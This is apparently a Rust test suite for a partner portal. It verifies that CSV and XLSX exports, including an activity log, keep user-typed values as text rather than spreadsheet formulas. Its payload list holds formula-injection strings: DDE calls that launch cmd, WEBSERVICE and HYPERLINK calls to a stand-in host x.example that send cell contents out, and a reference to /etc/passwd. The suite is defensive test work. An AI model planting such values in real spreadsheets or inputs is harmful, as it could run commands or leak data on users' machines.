//! What people typed stays text in a spreadsheet program: formulas in every column of the exported file.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use calamine::Data;
use partner_portal::web::spreadsheet::{self, Cell};

use crate::house::{ADMIN_AGENT, House};
use crate::make::{self, id, sheet};

/// How a cell begins that a spreadsheet program may take for a formula.
const BEGINNINGS: [&str; 15] =
    ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "==", "=-", "+=", "-@"];

const FORMULAS: [&str; 20] = [
    "1+1",
    "SUM(1;2)",
    "SUM(1,2)",
    "cmd|'/C calc'!A0",
    "cmd|' /C notepad'!'A1'",
    "HYPERLINK(\"http://x.example/?\"&A1;\"x\")",
    "HYPERLINK(\"http://x.example/\",\"x\")",
    "WEBSERVICE(\"http://x.example/\")",
    "IMPORTXML(\"http://x.example/\",\"//a\")",
    "IMPORTDATA(\"http://x.example/\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "'file:///etc/passwd'#$x.A1",
    "INDIRECT(\"A1\")",
    "A1",
    "$A$1:B2",
    "NOW()",
    "CONCATENATE(\"a\",\"b\")",
    "IF(1;\"да\";\"нет\")",
    "2+5+cmd|' /C calc'!A0\r\n=1+1",
    "1,\"=1+1\"\n\"=2+2\";=3+3\t=4+4",
];

/// Columns of the exported file.
const COLUMNS: usize = 11;

fn payloads() -> Vec<String> {
    BEGINNINGS.iter().flat_map(|beginning| FORMULAS.map(|formula| format!("{beginning}{formula}"))).collect()
}

/// A file as a proper reader reads it.
fn read(file: &str) -> Vec<Vec<String>> {
    let text = file.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(ToOwned::to_owned).collect()).collect()
}

/// Every payload in every column, a row for each.
fn everywhere() -> Vec<Vec<String>> {
    payloads().into_iter().map(|payload| vec![payload; COLUMNS]).collect()
}

/// **Activity log** as a file, in which people typed these.
fn exported(payloads: &[String]) -> String {
    let house = House::open();
    let quoted = |text: &String| format!("'{}'", text.replace('\'', "''"));
    let list = payloads.iter().map(quoted).collect::<Vec<_>>().join(", ");
    let provider = id("provider:northwind");
    house.execute(&format!(
        "with typed as (select row_number() over () as n, it from unnest(array[{list}]) it),
              numbered as (select id, row_number() over (order by id) as n from customers where provider_id = '{provider}'),
              named as (update customers set bill_to_name = it from numbered join typed using (n)
                        where customers.id = numbered.id returning customers.id, it)
         insert into activity (user_id, id, at, provider_id, customer_id, actor, action, subject, details, address, request_id)
         select (select id from users where sign_in_name = 'admin-agent@provider.example'), gen_random_uuid(), now(), '{provider}', id, it, 'customer.created', it,
                jsonb_build_object(it, it, 'before', jsonb_build_object(it, it), 'after', it), it, it from named"
    ));
    let answer = house.as_person(ADMIN_AGENT).get("/activity/export?action=customer.created&all=true");
    assert_eq!(answer.status, 200, "{}", answer.text);
    answer.text
}

/// How many cells of each of these files are formulas to LibreOffice; nothing where it isn't installed.
fn formulas(files: &[(&str, String)]) -> Option<Vec<usize>> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let office = std::env::split_paths(&path).map(|folder| folder.join("soffice")).find(|it| it.is_file())?;
    let folder = tempfile::tempdir().unwrap();
    let paths: Vec<_> = files.iter().map(|(name, _)| folder.path().join(format!("{name}.csv"))).collect();
    for (path, (_, text)) in paths.iter().zip(files) {
        fs::write(path, text).unwrap();
    }
    // Commas, double quotes, UTF-8, from the first line; quoted cells are looked at like others.
    let status = Command::new(office)
        .arg(format!("-env:UserInstallation=file://{}", folder.path().join("profile").display()))
        .args(["--headless", "--norestore", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"])
        .args(["--convert-to", "fods", "--outdir"])
        .arg(folder.path())
        .args(&paths)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "{status}");
    Some(paths.iter().map(|path| count(&path.with_extension("fods"))).collect())
}

fn count(sheet: &Path) -> usize {
    let text = fs::read_to_string(sheet).unwrap();
    assert!(text.contains("<table:table-cell"), "{} holds no table", sheet.display());
    text.matches("table:formula=").count()
}

#[test]
fn every_cell_is_read_back_as_it_was_typed() {
    let rows = everywhere();
    assert_eq!(rows.len(), 300);
    let file = read(&spreadsheet::csv(&rows[0], rows.clone()));
    assert_eq!(file.len(), 301);
    for (cells, typed) in file[1..].iter().zip(&rows) {
        let guarded: Vec<String> = typed.iter().map(|cell| format!("'{cell}")).collect();
        assert_eq!(cells, &guarded);
    }
}

#[test]
fn in_xlsx_every_cell_is_the_text_that_was_typed() {
    let rows = everywhere();
    let cells = |row: &Vec<String>| row.iter().map(Cell::text).collect::<Vec<_>>();
    let (sheet, formulas) = sheet(spreadsheet::xlsx(&rows[0], rows.iter().map(cells)).unwrap());
    assert_eq!((sheet.len(), formulas), (301, 0));
    for (cells, typed) in sheet[1..].iter().zip(&rows) {
        for (cell, typed) in cells.iter().zip(typed) {
            let Data::String(text) = cell else { panic!("{typed:?} is {cell:?}") };
            assert_eq!(text.replace('\r', "\n"), typed.replace('\r', "\n"));
        }
    }

    let longest = Cell::text("д".repeat(40_000));
    let row =
        vec![Cell::number(&12), Cell::number(&"99.50"), Cell::text("0012345"), Cell::number(&"no number"), longest];
    let (sheet, _) = make::sheet(spreadsheet::xlsx(&vec!["a".to_owned(); 5], [row]).unwrap());
    assert_eq!(sheet[1][..3], [Data::Float(12.0), Data::Float(99.5), Data::String("0012345".into())]);
    assert_eq!(sheet[1][3], Data::String("no number".into()));
    assert_eq!(sheet[1][4].to_string().chars().count(), 32_767);
}

#[test]
fn what_people_typed_is_in_the_exported_log_as_text() {
    let payloads = payloads();
    let house = House::open();
    let customers = format!("select count(*) from customers where provider_id = '{}'", id("provider:northwind"));
    let at_once = usize::try_from(house.count(&customers)).unwrap();
    drop(house);
    for typed in payloads.chunks(at_once) {
        let file = read(&exported(typed));
        assert_eq!(file.len(), typed.len() + 1);
        let mut wanted: Vec<String> = typed.iter().map(|payload| format!("'{payload}")).collect();
        wanted.sort();
        for (name, column) in [("customer", 2), ("actor", 4), ("address", 5), ("subject", 7), ("request", 10)] {
            let mut cells: Vec<String> = file[1..].iter().map(|row| row[column].clone()).collect();
            cells.sort();
            assert_eq!(cells, wanted, "{name}");
        }
        let risky = |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        assert_eq!(file.iter().flatten().find(|cell| risky(cell)), None);
        assert!(file[1..].iter().all(|row| typed.iter().any(|payload| row[7].contains(payload))));
    }
}

/// The control: the same cells without the guard are formulas.
#[test]
fn no_cell_is_a_formula_in_libreoffice() {
    let rows = everywhere();
    let quoted = |cell: &String| format!("\"{}\"", cell.replace('"', "\"\""));
    let lines = rows.iter().map(|row| row.iter().map(quoted).collect::<Vec<_>>().join(",") + "\r\n");
    let unguarded = format!("\u{feff}{}", lines.collect::<String>());
    let log = exported(&payloads()[..40]);
    let files = [("guarded", spreadsheet::csv(&rows[0], rows.clone())), ("log", log), ("unguarded", unguarded)];
    let Some(found) = formulas(&files) else {
        println!("skipped: spreadsheets::no_cell_is_a_formula_in_libreoffice (LibreOffice is not installed)");
        return;
    };
    println!(
        "formula cells of {}: guarded {}, log {}, unguarded {}",
        rows.len() * COLUMNS,
        found[0],
        found[1],
        found[2]
    );
    assert_eq!(found[..2], [0, 0]);
    assert!(found[2] >= 500, "the control has {} formulas", found[2]);
}
